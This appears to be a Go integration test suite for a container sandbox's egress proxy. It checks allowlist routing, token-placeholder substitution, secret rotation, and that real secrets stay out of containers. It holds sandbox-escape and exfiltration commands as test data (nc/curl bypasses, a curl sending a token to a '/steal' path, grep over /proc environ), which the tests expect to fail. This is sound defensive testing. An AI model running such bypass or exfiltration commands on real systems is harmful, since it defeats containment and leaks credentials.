package image_test

import (
	"bytes"
	"context"
	"encoding/json"
	"io"
	"net"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/moby/moby/client"

	"github.com/hutchsandbox/hutch/internal/egress"
	"github.com/hutchsandbox/hutch/internal/imagebuild"
	"github.com/hutchsandbox/hutch/internal/netpolicy"
	"github.com/hutchsandbox/hutch/internal/sandbox"
	"github.com/hutchsandbox/hutch/internal/sandbox/image"
	"github.com/hutchsandbox/hutch/internal/testenv"
)

// Values the tests give a placeholder: the real one must reach only the
// listed host, and nothing inside the container may ever hold it.
const (
	realSecret    = "ghp_REALsecretVALUEthatMUSTstayOUT1"
	rotatedSecret = "ghp_ROTATEDsecretVALUEalsoOUTside2"
	token         = "hutch-placeholder-00112233445566778899aabbccddeeff"
)

// egressFixture is an image-mode installation whose conversations run in
// the Debian clients image (curl, git, python3, node, nc, dig) and go out
// through relays whose proxies reach one TLS upstream by two names.
type egressFixture struct {
	*fixture
	upstream testenv.TLSServer
	rt       *image.Runtime
	policy   atomic.Pointer[netpolicy.Policy]
	value    atomic.Pointer[string]
	mu       sync.Mutex
	events   []egress.Event
}

func newEgressFixture(t *testing.T) *egressFixture {
	t.Helper()
	f := &egressFixture{fixture: newFixture(t)}
	base := func(ctx context.Context, w io.Writer) (string, error) {
		return imagebuild.ResolveBase(ctx, f.eng, imagebuild.DefaultBase, w)
	}
	img := testenv.DebianClientsImage(t, f.cli, base)
	f.upstream = testenv.TLSUpstream(t, f.cli, base, "", "api.test", "other.test")
	allow, err := netpolicy.ParseAllowlist([]string{"api.test", "other.test"})
	if err != nil {
		t.Fatal(err)
	}
	f.policy.Store(&netpolicy.Policy{Mode: netpolicy.ModeAllowlist, Allow: allow})
	v := realSecret
	f.value.Store(&v)
	hosts, _ := netpolicy.ParseAllowlist([]string{"api.test"})
	relays := &egress.Relays{New: func(key string) (*egress.Proxy, error) {
		ca, err := egress.LoadOrCreateCA(f.state)
		if err != nil {
			return nil, err
		}
		return &egress.Proxy{
			Office: key,
			Policy: func() netpolicy.Policy { return *f.policy.Load() },
			Secrets: func() []egress.Secret {
				return []egress.Secret{{Name: "GH_TOKEN", Placeholder: token, Value: *f.value.Load(), Hosts: hosts}}
			},
			CA:            ca,
			UpstreamRoots: f.upstream.Roots,
			// The test's names lead to the upstream container; the real
			// dialer would refuse its private address.
			Dial: func(ctx context.Context, network, addr string) (net.Conn, error) {
				_, port, _ := net.SplitHostPort(addr)
				var d net.Dialer
				return d.DialContext(ctx, network, net.JoinHostPort(f.upstream.IP, port))
			},
			Record: func(ev egress.Event) {
				f.mu.Lock()
				defer f.mu.Unlock()
				f.events = append(f.events, ev)
			},
		}, nil
	}}
	t.Cleanup(relays.Close)
	f.rt = f.runtimeWith(t, func(c *image.Config) {
		c.Image = img
		c.Egress = relays
		c.EgressCA = func(string) (*egress.CA, error) { return egress.LoadOrCreateCA(f.state) }
	})
	return f
}

func (f *egressFixture) spec(t *testing.T, id string, mode netpolicy.Mode) sandbox.Spec {
	t.Helper()
	spec := f.office(t, id)
	spec.Network = mode
	spec.Placeholders = true
	return spec
}

// sh runs cmd with the placeholder in its env and returns its output and
// exit code.
func (f *egressFixture) sh(t *testing.T, spec sandbox.Spec, cmd string) (string, int) {
	t.Helper()
	var out bytes.Buffer
	res, err := f.rt.Exec(context.Background(), spec, sandbox.ExecRequest{
		Argv: []string{cmd + " 2>&1"}, Env: map[string]string{"GH_TOKEN": token},
		Stdout: &out, Stderr: &out, Timeout: 2 * time.Minute,
	})
	if err != nil {
		t.Fatalf("Exec(%q): %v", cmd, err)
	}
	return out.String(), res.ExitCode
}

// received lists the Authorization headers the upstream got.
func (f *egressFixture) received(t *testing.T) string {
	t.Helper()
	var got []string
	for _, r := range f.upstream.Requests() {
		got = append(got, r.SNI+" "+r.Path+" "+r.Header.Get("Authorization")+" "+r.Query)
	}
	return strings.Join(got, "\n")
}

// TestEgress_Allowlist: under allowlist a container has no route but
// the proxy: listed hosts answer through it, others are refused, and
// every way around it (no proxy, raw TCP, UDP, DNS, IPv6) fails.
func TestEgress_Allowlist(t *testing.T) {
	t.Parallel()
	f := newEgressFixture(t)
	spec := f.spec(t, "allow", netpolicy.ModeAllowlist)
	allow, _ := netpolicy.ParseAllowlist([]string{"api.test"})
	f.policy.Store(&netpolicy.Policy{Mode: netpolicy.ModeAllowlist, Allow: allow})

	if out, code := f.sh(t, spec, "curl -sS -o /dev/null -w '%{http_code}' https://api.test/listed"); code != 0 || out != "200" {
		t.Errorf("a listed host through the proxy: exit %d, %q", code, out)
	}
	if out, code := f.sh(t, spec, "curl -sS https://other.test/unlisted"); code == 0 || !strings.Contains(out, "403") {
		t.Errorf("an unlisted host: exit %d, %q; want a 403 from the proxy", code, out)
	}
	ip := f.upstream.IP
	hostIP, hostPort := hostListener(t)
	bypasses := map[string]string{
		"raw TCP to the host": "nc -z -w 3 " + hostIP + " " + hostPort,
		"no proxy":            "curl -sS --max-time 5 --noproxy '*' --cacert /hutch/egress-ca.pem --resolve api.test:443:" + ip + " https://api.test/bypass",
		"raw TCP":             "nc -z -w 3 " + ip + " 443",
		"UDP":                 "echo x | nc -u -w 1 " + ip + " 53 && ip route get " + ip,
		"DNS":                 "dig +time=2 +tries=1 @1.1.1.1 example.com",
		"IPv6":                "curl -sS --max-time 5 -6 --noproxy '*' 'http://[2606:4700:4700::1111]/'",
		"host route":          "ip route | grep -q default || ip -6 route | grep -q default || exit 7; exit 0",
	}
	for name, cmd := range bypasses {
		if out, code := f.sh(t, spec, cmd); code == 0 {
			t.Errorf("bypass %s succeeded: %q", name, out)
		}
	}
	if got := f.received(t); strings.Contains(got, "/unlisted") || strings.Contains(got, "/bypass") {
		t.Errorf("the upstream received a request that should not have left:\n%s", got)
	}
	// A new allowlist applies to the next connection, without a re-create.
	id := f.inspect(t, spec).Container.ID
	both, _ := netpolicy.ParseAllowlist([]string{"api.test", "other.test"})
	f.policy.Store(&netpolicy.Policy{Mode: netpolicy.ModeAllowlist, Allow: both})
	if out, code := f.sh(t, spec, "curl -sS -o /dev/null -w '%{http_code}' https://other.test/now-listed"); code != 0 || out != "200" {
		t.Errorf("a host listed since: exit %d, %q", code, out)
	}
	if f.inspect(t, spec).Container.ID != id {
		t.Error("a changed allowlist re-created the container")
	}
	// Docker lists the none network; Podman lists none at all.
	for name := range f.inspect(t, spec).Container.NetworkSettings.Networks {
		if name != "none" {
			t.Errorf("the container is on network %s, want none", name)
		}
	}
}

// TestEgress_Placeholders: real TLS clients inside send the placeholder;
// the listed host receives the real value, an unlisted one nothing, and
// the value is nowhere in the container, its environment or its config.
func TestEgress_Placeholders(t *testing.T) {
	t.Parallel()
	f := newEgressFixture(t)
	spec := f.spec(t, "ph", netpolicy.ModeAllowlist)

	// The upstream echoes each request, the value included: what an
	// allowed host that echoes gives back is a limit placeholders do not
	// close (docs/security.md). The clients' output is dropped here.
	clients := map[string]string{
		"curl":   `curl -sS -o /dev/null -H "Authorization: Bearer $GH_TOKEN" "https://api.test/curl?t=$GH_TOKEN"`,
		"git":    `git -c http.extraHeader="Authorization: Bearer $GH_TOKEN" ls-remote https://api.test/git/repo.git; true`,
		"python": `python3 -c 'import os,urllib.request as u; print(u.urlopen(u.Request("https://api.test/python", headers={"Authorization": "Bearer "+os.environ["GH_TOKEN"]})).status)'`,
		// Node 18 takes no proxy from the environment: a CONNECT by hand,
		// then TLS trusting NODE_EXTRA_CA_CERTS; it prints the status line.
		"node": `node -e '
const http=require("http"),tls=require("tls");
const [h,p]=process.env.HTTPS_PROXY.replace("http://","").split(":");
http.request({host:h,port:p,method:"CONNECT",path:"api.test:443"}).on("connect",(res,sock)=>{
 const s=tls.connect({socket:sock,servername:"api.test"},()=>{s.write("GET /node HTTP/1.1\r\nHost: api.test\r\nAuthorization: Bearer "+process.env.GH_TOKEN+"\r\nConnection: close\r\n\r\n")});
 let first=true;s.on("data",d=>{if(first)process.stdout.write(d.toString().split("\r\n")[0]+"\n");first=false});s.on("error",e=>{console.error(e.message);process.exit(3)});
}).end();'`,
	}
	for name, cmd := range clients {
		if out, code := f.sh(t, spec, cmd); code != 0 || strings.Contains(out, realSecret) {
			t.Errorf("%s: exit %d, output %q", name, code, out)
		}
	}
	got := f.received(t)
	for _, path := range []string{"/curl", "/git/repo.git/info/refs", "/python", "/node"} {
		if !strings.Contains(got, "api.test "+path+" Bearer "+realSecret) {
			t.Errorf("the upstream did not get the real value on %s:\n%s", path, got)
		}
	}
	if !strings.Contains(got, "t="+realSecret) {
		t.Errorf("the query's placeholder was not substituted:\n%s", got)
	}
	if strings.Contains(got, token) {
		t.Errorf("a placeholder reached the upstream unsubstituted:\n%s", got)
	}

	// The same placeholder toward a second host that the network allows
	// but the secret does not name: refused, recorded, never sent.
	if out, code := f.sh(t, spec, `curl -sS -o /dev/null -w '%{http_code}' -H "Authorization: Bearer $GH_TOKEN" https://other.test/steal`); out != "403" {
		t.Errorf("exfiltration toward other.test: exit %d, %q", code, out)
	}
	if got := f.received(t); strings.Contains(got, "/steal") {
		t.Errorf("other.test received the exfiltration attempt:\n%s", got)
	}
	f.mu.Lock()
	var refused bool
	for _, ev := range f.events {
		if ev.Kind == egress.KindRefused && ev.Host == "other.test" && ev.Secret == "GH_TOKEN" {
			refused = true
		}
	}
	f.mu.Unlock()
	if !refused {
		t.Error("the refused placeholder was not recorded")
	}

	// Nothing inside holds the value: not a process's environment, not a
	// file hutch put there, not the container's config.
	if out, _ := f.sh(t, spec, "grep -l -s '"+realSecret+"' /proc/[0-9]*/environ; grep -rl -s '"+realSecret+"' /hutch /etc /workspace /tmp /root; true"); out != "" {
		t.Errorf("the value is inside the container: %q", out)
	}
	res, err := f.cli.ContainerInspect(context.Background(), image.ContainerName(spec.OfficeKey), client.ContainerInspectOptions{})
	if err != nil {
		t.Fatal(err)
	}
	raw, _ := json.Marshal(res.Container)
	if strings.Contains(string(raw), realSecret) {
		t.Error("docker inspect shows the value")
	}

	// A rotated value takes effect on the next request, same container.
	id := res.Container.ID
	v := rotatedSecret
	f.value.Store(&v)
	if _, code := f.sh(t, spec, `curl -sS -H "Authorization: Bearer $GH_TOKEN" https://api.test/rotated`); code != 0 {
		t.Errorf("after rotation: exit %d", code)
	}
	if got := f.received(t); !strings.Contains(got, "/rotated Bearer "+rotatedSecret) {
		t.Errorf("the rotated value was not sent:\n%s", got)
	}
	if f.inspect(t, spec).Container.ID != id {
		t.Error("rotating the value re-created the container")
	}
}

// TestEgress_OpenWithPlaceholders: under open the container keeps its
// own network, and its placeholders still go only to their host.
func TestEgress_OpenWithPlaceholders(t *testing.T) {
	t.Parallel()
	f := newEgressFixture(t)
	f.policy.Store(&netpolicy.Policy{Mode: netpolicy.ModeOpen})
	spec := f.spec(t, "open", netpolicy.ModeOpen)
	if _, code := f.sh(t, spec, `curl -sS -H "Authorization: Bearer $GH_TOKEN" https://api.test/open`); code != 0 {
		t.Errorf("open with a placeholder: exit %d", code)
	}
	if got := f.received(t); !strings.Contains(got, "/open Bearer "+realSecret) {
		t.Errorf("the value was not substituted under open:\n%s", got)
	}
	if nets := f.inspect(t, spec).Container.NetworkSettings.Networks; nets[image.NetworkName(spec.OfficeKey)] == nil {
		t.Errorf("an open runtime is not on its own network: %v", nets)
	}
	// Closed to an allowlist, it is made anew on no network, and its old
	// network goes.
	allow, _ := netpolicy.ParseAllowlist([]string{"api.test"})
	f.policy.Store(&netpolicy.Policy{Mode: netpolicy.ModeAllowlist, Allow: allow})
	spec.Network = netpolicy.ModeAllowlist
	if out, code := f.sh(t, spec, "ip route | grep -q default && echo routed; exit 0"); code != 0 || out != "" {
		t.Errorf("after the switch to allowlist: exit %d, %q", code, out)
	}
	nets, err := f.cli.NetworkList(context.Background(), client.NetworkListOptions{})
	if err != nil {
		t.Fatal(err)
	}
	for _, n := range nets.Items {
		if n.Name == image.NetworkName(spec.OfficeKey) {
			t.Errorf("the office network %s outlived the switch to allowlist", n.Name)
		}
	}
}

// hostListener listens on every address of the host and returns one of
// the host's own (not loopback) with the port: a container with any
// route out reaches it.
func hostListener(t *testing.T) (string, string) {
	t.Helper()
	l, err := net.Listen("tcp4", "0.0.0.0:0")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = l.Close() })
	go func() {
		for {
			c, err := l.Accept()
			if err != nil {
				return
			}
			_ = c.Close()
		}
	}()
	_, port, _ := net.SplitHostPort(l.Addr().String())
	addrs, err := net.InterfaceAddrs()
	if err != nil {
		t.Fatal(err)
	}
	for _, a := range addrs {
		if n, ok := a.(*net.IPNet); ok && n.IP.To4() != nil && !n.IP.IsLoopback() {
			return n.IP.String(), port
		}
	}
	t.Fatal("the host has no IPv4 address but loopback")
	return "", ""
}
